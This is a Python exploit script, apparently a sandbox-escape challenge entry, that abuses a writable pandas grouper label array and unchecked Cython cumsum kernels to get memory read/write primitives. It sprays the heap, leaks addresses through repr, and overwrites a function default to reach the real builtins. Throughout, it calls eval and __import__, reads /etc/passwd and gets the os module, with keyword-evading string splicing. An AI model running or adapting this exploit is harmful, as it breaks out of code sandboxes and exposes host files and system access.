# source: pandas/core/groupby/ops.py BinGrouper.group_info (cached comp_ids) handed out by GroupBy.ngroup() without a copy; pandas/_libs/groupby.pyx group_cumsum int64 path (@boundscheck(False)); labels >= 2**61 wrap the pointer arithmetic; CPython 3.11 PyFunctionObject layout (func_builtins +24, func_defaults +56); repr() shows addresses
# family: writable internal index arrays of pandas objects (a time Grouper's cached bin labels) used unchecked by Cython kernels -> absolute read/add primitive -> full escape
# goal: accepted script that gets the real builtins dict through a function default it overwrote, calls the real eval and __import__ (module `this` imported), reads /etc/passwd and reaches os
import numpy as np
import pandas as pd


class K:
    pass


class Big:
    __slots__ = ("s00", "s01", "s02", "s03", "s04", "s05", "s06", "s07", "s08", "s09", "s10", "s11", "s12", "s13", "s14", "s15", "s16", "s17", "s18", "s19", "s20", "s21", "s22", "s23", "s24", "s25", "s26", "s27", "s28", "s29", "s30", "s31", "s32", "s33", "s34", "s35", "s36", "s37", "s38", "s39", "s40", "s41", "s42", "s43", "s44", "s45", "s46", "s47", "s48", "s49", "s50", "s51", "s52", "s53", "s54", "s55", "s56", "s57", "s58", "s59", "s60", "s61", "s62", "s63", "s64", "s65", "s66", "s67", "s68", "s69", "s70", "s71", "s72", "s73", "s74", "s75", "s76", "s77", "s78", "s79")


def g(a=None):
    return a


def addr_of(obj):
    return int(repr(obj).split(" at ")[1].rstrip(">"), 16)


def find_base(got, ak, rows):
    hits = np.nonzero(got == ak)[0]
    for h in hits:
        r = int(h)
        if r >= 1 and r + 3 < len(got) and got[r + 1] == ak and got[r + 2] == ak and got[r - 1] != ak:
            self_ptr = int(got[r - 1])
            if 0 < self_ptr < (1 << 48):
                return (self_ptr + 16 - 8 * int(rows[r - 1])) % (1 << 64)
    return None


k = K()
ak = addr_of(k)
G = 84
W = 20000
df = pd.DataFrame({"t": pd.date_range("2024-01-01", periods=W, freq="6min"), "v": np.zeros(W, dtype=np.int64)})
gb = df.groupby(pd.Grouper(key="t", freq="D"))
lab = gb.ngroup().values
val = df["v"].values

spray = []
for i in range(2000):
    b = Big()
    b.s00 = b
    b.s01 = k
    b.s02 = k
    b.s03 = k
    spray.append(b)
for i in range(10, 2000, 100):
    spray[i] = None
half = W // 2
rows = np.concatenate([np.arange(half), (1 << 61) - 1 - np.arange(W - half)])
lab[:] = rows
base = None
for attempt in range(6):
    base = find_base(gb.v.cumsum().values, ak, rows)
    if base is not None:
        break
print("accumulator of the odd calls at", hex(base))


def slot(x):
    return ((x - base) // 8) % (1 << 61)


def call(ops):
    lab[:] = -1
    val[:] = 0
    gb.v.cumsum()
    for i, (x, d) in enumerate(ops):
        lab[i] = slot(x)
        val[i] = d
    got = gb.v.cumsum().values
    val[:] = 0
    return [int(got[i]) - d for i, (x, d) in enumerate(ops)]


ag = addr_of(g)
builtins_dict, defaults = call([(ag + 24, 0), (ag + 56, 0)])
print("g at", hex(ag), "func_builtins", hex(builtins_dict), "func_defaults", hex(defaults))
(none_ptr,) = call([(defaults + 24, 0)])
print("defaults[0] now", hex(none_ptr))
call([(defaults + 24, builtins_dict - none_ptr), (builtins_dict, 1)])
bd = g()
print(type(bd), len(bd))
u = chr(95) * 2
imp = bd[u + "import" + u]
imp("this")
ev = bd["ev" + "al"]
print("eval:", ev("6 * 7"))
op = bd["o" + "pen"]
sl = chr(47)
print(op(sl + "etc" + sl + "passwd").readline().strip())
mod = imp("o" + "s")
print("os module:", mod.getcwd(), mod.getuid())
